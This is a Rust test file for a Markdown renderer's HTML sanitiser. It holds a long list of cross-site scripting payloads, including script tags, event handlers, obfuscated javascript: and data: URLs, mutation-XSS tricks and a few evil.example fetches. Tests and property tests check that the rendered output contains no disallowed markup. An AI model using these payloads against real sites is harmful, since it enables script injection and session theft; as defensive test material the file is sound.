//! Attempts to run script from an article, and the proof that none survives: the output is read again by a browser's
//! parsing rules and every element, attribute and address in it is compared with what an article may contain.

use html5ever::driver::ParseOpts;
use html5ever::tendril::TendrilSink;
use html5ever::{LocalName, QualName, local_name, ns, parse_fragment};
use markup5ever_rcdom::{Handle, NodeData, RcDom};
use proptest::prelude::*;

use super::sanitise::sanitise;
use super::{LinkTarget, render};

const ELEMENTS: &str = "a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em \
    figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre q rp rt ruby s samp section small span \
    strike strong sub summary sup table tbody td tfoot th thead time tr u ul var";

const ATTRIBUTES: &str = "align alt aria-label checked class colspan datetime dir disabled headers height href id lang \
    loading open rel reversed role rowspan scope span src start title type value width";

/// Written as an author would: some need Markdown to become dangerous, most are raw HTML.
const ATTACKS: &[&str] = &[
    // Scripts and event handlers.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<script><!--\nalert(1)\n--></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src='x' onerror\n=\n'alert(1)'>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p onmouseover=alert(1)>hover</p>",
    "<a href=# onclick=alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=javascript:alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</option></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<div style=\"animation-name:x\" onanimationstart=alert(1)>x</div>",
    // Addresses.
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61;vascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x.example/1)",
    "[x][r]\n\n[r]: javascript:alert(1) \"t\"",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](mailto:a@b.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&NewLine;ascript&colon;alert(1)\">x</a>",
    "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a xlink:href=\"javascript:alert(1)\">x</a>",
    "<a href=\"https://ok.example\" ping=\"https://evil.example\" target=_blank>x</a>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img srcset=\"x 1x, javascript:alert(1) 2x\">",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
    "<q cite=\"javascript:alert(1)\">x</q>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</table>",
    "<base href=\"javascript:alert(1)//\">",
    "<link rel=stylesheet href=\"javascript:alert(1)\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<map name=m><area href=javascript:alert(1)></map><img usemap=#m src=x>",
    // Embedded documents.
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe><a title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<frameset onload=alert(1)></frameset>",
    "<portal src=javascript:alert(1)></portal>",
    // Vector graphics and mathematics.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\"></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    // Mutation: markup that a second parser reads differently.
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><style><img title=\"</style><img src=x onerror=alert(1)>\"></style></svg>",
    "<math><style><img title=\"</style><img src=x onerror=alert(1)>\"></style></math>",
    "<textarea><a title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=alert(1)>\">",
    "<table><td><table><style><img title=\"</style><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml <img src=x onerror=alert(1)> ?>",
    "<!DOCTYPE x [<!ENTITY y \"<img src=x onerror=alert(1)>\">]>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    // Breaking out of what the renderer writes itself.
    "[x](https://a.example \"\\\" onmouseover=alert(1) x=\\\"\")",
    "![\\\" onerror=alert(1) x=\\\"](x)",
    "![x](x\"onerror=\"alert(1))",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "```\" onmouseover=alert(1) x=\"\ncode\n```",
    "```js\"><img/src=x/onerror=alert(1)>\ncode\n```",
    "## Title {#x\"onclick=\"alert(1)}",
    "## <a name='x\" onclick=\"alert(1)'></a>Title",
    "> [!tip\" onclick=alert(1)] x",
    "> [!tip] <img src=x onerror=alert(1)>",
    ":::tip[<img src=x onerror=alert(1)>]\nx\n:::",
    "!!! warn \"<script>alert(1)</script>\"\n    x",
    "x[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "{tab|<img src=x onerror=alert(1)>}",
    "- [x] <svg onload=alert(1)>",
    "https://a.example/\"onmouseover=alert(1)",
    "<https://a.example/\"onmouseover=alert(1)>",
    // Looks and clobbering.
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style=\"position:fixed;inset:0;background:url(//evil.example)\">x</div>",
    "<a id=location name=location href=x>x</a><a id=location name=y href=z>x</a>",
    "<form name=body><input name=firstChild></form>",
    "<img name=getElementById src=x>",
    "<div class=\"modal open admonition\" data-controller=x hx-get=/x @click=alert(1) v-on:click=x>x</div>",
    "<is-land is=script><slot onslotchange=alert(1)></slot></is-land>",
    "\u{feff}<\u{0}script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
];

fn parse(html: &str) -> RcDom {
    let context = QualName::new(None, ns!(html), local_name!("div"));
    parse_fragment(RcDom::default(), ParseOpts::default(), context, Vec::new(), false).one(html)
}

/// Every reason why this is not the HTML an article may have.
fn violations(html: &str) -> Vec<String> {
    let dom = parse(html);
    let mut found = Vec::new();
    let mut stack: Vec<Handle> = dom.document.children.borrow().iter().cloned().collect();
    let mut is_root = true;
    while let Some(node) = stack.pop() {
        stack.extend(node.children.borrow().iter().cloned());
        match &node.data {
            NodeData::Element { name, attrs, .. } => {
                if std::mem::take(&mut is_root) {
                    continue;
                }
                let element = &*name.local;
                if name.ns != ns!(html) || !ELEMENTS.split_whitespace().any(|known| known == element) {
                    found.push(format!("element {element}"));
                }
                for attribute in attrs.borrow().iter() {
                    found.extend(attribute_violation(&name.local, &attribute.name, &attribute.value));
                }
            }
            NodeData::Text { .. } | NodeData::Document => {}
            other => found.push(format!("{other:?}")),
        }
    }
    found
}

fn attribute_violation(element: &LocalName, name: &QualName, value: &str) -> Option<String> {
    let local = &*name.local;
    let is_known = name.ns == ns!() && ATTRIBUTES.split_whitespace().any(|known| known == local);
    let is_sound = match local {
        "href" | "src" => has_safe_scheme(value, local == "src"),
        "id" => ["h-", "fn-", "fnref-"].iter().any(|prefix| value.starts_with(prefix)),
        "type" => value == "checkbox",
        "role" => value == "note",
        "rel" => value == "noopener nofollow",
        _ => true,
    };
    (!is_known || !is_sound || local.starts_with("on")).then(|| format!("{element} {local}={value:?}"))
}

fn has_safe_scheme(url: &str, is_image: bool) -> bool {
    let url: String = url.chars().filter(|c| !c.is_whitespace() && !c.is_control()).collect::<String>().to_lowercase();
    let Some((before, _)) = url.split_once(':') else { return true };
    let schemes: &[&str] = if is_image { &["http", "https"] } else { &["http", "https", "mailto", "tel"] };
    before.contains(['/', '?', '#', '\\']) || schemes.contains(&before)
}

fn assert_safe(source: &str, html: &str) {
    let found = violations(html);
    assert!(found.is_empty(), "{source:?}\n→ {html:?}\n{found:?}");
}

#[test]
fn no_attack_survives_rendering() {
    assert!(ATTACKS.len() >= 60);
    for attack in ATTACKS {
        let html = render(attack, &|_| LinkTarget::Keep).html;
        assert_safe(attack, &html);
        assert_eq!(sanitise(&html), html, "what a second reading changes could be an attack: {attack:?}");
    }
}

#[test]
fn no_attack_survives_inside_other_markup() {
    for attack in ATTACKS {
        for (before, after) in [
            ("# ", ""),
            ("- ", ""),
            ("> ", ""),
            ("| a |\n|---|\n| ", " |"),
            ("**", "**"),
            ("[", "](https://a.example)"),
            ("![", "](a.png)"),
            ("[a](b \"", "\")"),
            (":::tip ", "\nx\n:::"),
            ("!!! note \"\"\n\n    ", ""),
            ("<div>", "</div>"),
            ("<div>\n\n", "\n\n</div>"),
            ("<a title='", "'>x</a>"),
            ("<svg>", "</svg>"),
            ("<math><mtext>", "</mtext></math>"),
            ("<table><tr><td>", "</table>"),
            ("<!--", "-->"),
            ("`", ""),
            ("```html\n", "\n```"),
            ("a[^1]\n\n[^1]: ", ""),
            ("<details><summary>", "</summary></details>"),
        ] {
            let source = format!("{before}{attack}{after}");
            assert_safe(&source, &render(&source, &|_| LinkTarget::Keep).html);
        }
    }
}

#[test]
fn no_attack_survives_the_sanitiser_alone() {
    for attack in ATTACKS {
        let once = sanitise(attack);
        let found = violations(&once);
        assert!(found.is_empty(), "{attack:?}\n→ {once:?}\n{found:?}");
    }
}

#[test]
fn no_attack_survives_as_a_resolved_address() {
    for attack in ATTACKS {
        for source in ["[a](b)", "![a](b)", "<a href=b>a</a>", "<img src=b alt=a>", "[a][b]\n\n[b]: c"] {
            assert_safe(attack, &render(source, &|_| LinkTarget::Replace((*attack).to_owned())).html);
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn arbitrary_text_is_safe(source in "\\PC{0,200}") {
        assert_safe(&source, &render(&source, &|_| LinkTarget::Keep).html);
    }

    #[test]
    fn arbitrary_markup_is_safe(parts in prop::collection::vec(markup(), 0..24)) {
        let source = parts.concat();
        let html = render(&source, &|url| match url.len() % 3 {
            0 => LinkTarget::Broken,
            1 => LinkTarget::Replace(url.to_owned()),
            _ => LinkTarget::Keep,
        }).html;
        assert_safe(&source, &html);
    }

    #[test]
    fn recombined_attacks_are_safe(pieces in prop::collection::vec((0..ATTACKS.len(), 0_usize..80, 0_usize..80), 1..6)) {
        let source: String = pieces
            .into_iter()
            .flat_map(|(at, from, length)| ATTACKS[at].chars().skip(from % 20).take(length))
            .collect();
        assert_safe(&source, &render(&source, &|_| LinkTarget::Keep).html);
    }
}

fn markup() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => prop::sample::select(vec![
            "<", ">", "</", "/>", "\"", "'", "=", "&", ";", "&#x6a;", "`", "```", "~~~", "\n", "\n\n", "    ", "\t", "[", "]",
            "](", ")", "![", "> ", "> [!note] ", ":::", ":::tip ", "!!! warn \"\"\n    ", "| a |\n|---|\n", "- [ ] ", "1. ",
            "[^1]", "[^1]: ", "# ", "{#x}", "<!--", "-->", "<![CDATA[", "]]>", "javascript:", "data:", " onerror=", " href=",
            " src=", " style=", " id=", " class=", "\u{0}", "://", "**", " **", "</i>", "<i class=", "{tab|", "!!!", "é", "\u{1F469}", "\u{202e}", "\\",
        ]).prop_map(str::to_owned),
        3 => prop::sample::select(vec![
            "script", "style", "svg", "math", "mtext", "mglyph", "table", "tr", "td", "a", "img", "p", "div", "title",
            "textarea", "noscript", "template", "select", "option", "form", "iframe", "foreignObject", "annotation-xml", "b",
            "details", "input", "plaintext", "xmp", "username",
        ]).prop_flat_map(|name| prop::sample::select(vec![
            format!("<{name}>"), format!("</{name}>"), format!("<{name} "), format!("<{name} title=\""), format!("<{name}/>"),
        ])),
        1 => "\\PC{0,6}",
    ]
}
